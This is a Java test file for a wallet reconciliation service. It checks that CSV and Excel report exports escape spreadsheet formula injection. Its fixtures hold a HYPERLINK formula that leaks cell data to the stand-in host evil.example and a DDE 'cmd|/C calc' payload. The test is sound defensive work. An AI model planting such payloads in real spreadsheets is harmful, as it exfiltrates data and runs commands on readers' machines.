package io.walletrecon.reports;

import io.walletrecon.reports.statements.ReportResource;
import io.quarkus.test.junit.QuarkusTest;
import io.walletrecon.testing.TestJwt;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;

/**
 * A person's text that a spreadsheet would run (an assignee named {@code =HYPERLINK(...)}, a note whose author starts
 * with {@code @}) reaches the finance team's spreadsheet as text; negative amounts stay numbers.
 */
@QuarkusTest
class SpreadsheetFormulaTest {

    static final String FINANCE = TestJwt.bearer("fiona", "finance");
    static final String LINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click for details\")";
    static final String AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0";

    private String account;
    private final LocalDate today = LocalDate.now(java.time.ZoneOffset.UTC);

    @BeforeEach
    void plant() {
        long a = ReportFixtures.account("formula", "bank", "CNY", "Asia/Shanghai");
        account = ReportFixtures.code(a);
        long e = ReportFixtures.exception(a, "amount_mismatch", "open", "CNY", 10000L, 9950L, -50L,
                today.minusDays(2).toString(), LINK);
        ReportFixtures.annotate(e, AUTHOR, "called the customer", "2026-01-01T10:00:00Z");
    }

    private io.restassured.specification.RequestSpecification request(String accept) {
        return given().header("Authorization", FINANCE).accept(accept).queryParam("account", account)
                .queryParam("from", today.minusDays(30).toString()).queryParam("to", today.toString());
    }

    @Test
    void csvWritesFormulaTextAsTextAndNegativeAmountsAsNumbers() throws Exception {
        byte[] body = request("text/csv").when().get("/reports/differences").then().statusCode(200).extract()
                .asByteArray();
        String text = new String(body, StandardCharsets.UTF_8).substring(1);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text)).getRecords();
        assertEquals(1, rows.size());
        assertEquals("'" + LINK, rows.get(0).get("assignee"));
        assertEquals("'" + AUTHOR + ": called the customer", rows.get(0).get("annotations"));
        assertEquals("-0.50", rows.get(0).get("difference"));
    }

    @Test
    void workbookWritesFormulaTextAsTextAndAmountsAsNumbers() throws Exception {
        byte[] body = request(ReportResource.XLSX).when().get("/reports/differences").then().statusCode(200).extract()
                .asByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(body),
                new org.dhatim.fastexcel.reader.ReadingOptions(true, false))) {
            List<Row> rows = wb.getSheets().toList().get(1).read();
            assertEquals(2, rows.size());
            assertEquals(CellType.STRING, rows.get(1).getCell(10).getType());
            assertEquals("'" + LINK, rows.get(1).getCellText(10));
            assertEquals(CellType.NUMBER, rows.get(1).getCell(8).getType());
            assertEquals(0, new BigDecimal("-0.50").compareTo(rows.get(1).getCellAsNumber(8).orElseThrow()));
        }
    }
}
